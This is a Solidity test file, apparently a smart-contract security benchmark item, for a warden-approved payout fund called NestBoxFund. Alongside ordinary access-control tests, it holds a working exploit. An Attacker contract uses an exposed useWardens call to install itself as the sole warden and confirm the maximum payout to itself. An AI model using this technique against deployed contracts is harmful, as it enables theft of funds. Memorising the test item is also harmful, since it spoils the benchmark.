// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./NestBoxFund.sol";

// assay-canary-0ae279b2-9547-4060-9836-02829185e47e

interface Vm {
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

interface IUse {
    function useWardens(IWardens list) external;
}

contract Dollar is ERC20 {
    constructor() ERC20("Dollar", "USD") {
        _mint(msg.sender, 100_000e6);
    }

    function decimals() public pure override returns (uint8) {
        return 6;
    }
}

/// Is a list, with itself on it.
contract Attacker is IWardens {
    function isWarden(address who) external view returns (bool) {
        return who == address(this);
    }

    function visit(NestBoxFund fund) external {
        IUse(address(fund)).useWardens(this);
        fund.confirm(address(this), fund.MOST_BOXES());
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant LIV = address(0x11F);
    address private constant PER = address(0x9E4);

    Dollar public dollar;
    WardenList private list;
    NestBoxFund private fund;
    Attacker private visitor;

    function setUp() public {
        dollar = new Dollar();
        list = new WardenList();
        list.set(LIV, true);
        fund = new NestBoxFund(dollar, list, 40e6);
        dollar.approve(address(fund), type(uint256).max);
        fund.give(20_000e6);
        visitor = new Attacker();
    }

    function test_Regular() public {
        vm.prank(LIV);
        require(fund.confirm(PER, 3) == 120e6 && dollar.balanceOf(PER) == 120e6, "confirmed");
        fund.setPerBox(50e6);
        WardenList next = new WardenList();
        next.set(PER, true);
        fund.changeWardens(next);
        vm.prank(PER);
        require(fund.confirm(LIV, 397) == 19_850e6 && fund.wardens() == next, "the new list");
        fund.transferOwnership(LIV);
        vm.prank(LIV);
        fund.acceptOwnership();
        vm.prank(LIV);
        fund.renounceOwnership();
        list.transferOwnership(LIV);
        vm.prank(LIV);
        list.acceptOwnership();
        vm.prank(LIV);
        list.renounceOwnership();
    }

    function test_RefusesStrangers() public {
        vm.expectRevert(abi.encodeWithSelector(Wardened.NotWarden.selector, PER));
        vm.prank(PER);
        fund.confirm(PER, 1);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, PER));
        vm.prank(PER);
        fund.changeWardens(list);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, PER));
        vm.prank(PER);
        fund.setPerBox(1);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, PER));
        vm.prank(PER);
        list.set(PER, true);
    }

    function test_RefusesValues() public {
        vm.expectRevert("for nothing?");
        fund.setPerBox(0);
        vm.expectRevert(abi.encodeWithSelector(Wardened.NoCode.selector, PER));
        fund.changeWardens(IWardens(PER));
        vm.startPrank(LIV);
        vm.expectRevert("enough for today");
        fund.confirm(PER, 401);
        fund.confirm(PER, 400);
        vm.expectRevert("enough for today");
        fund.confirm(PER, 1);
        vm.stopPrank();
    }

    function exploit() public {
        visitor.visit(fund);
    }

    function test_Exploit() public {
        exploit();
        require(dollar.balanceOf(address(visitor)) >= 16_000e6, "no gain");
    }

    function target() public view returns (address) {
        return address(fund);
    }

    function attacker() public view returns (address) {
        return address(visitor);
    }
}
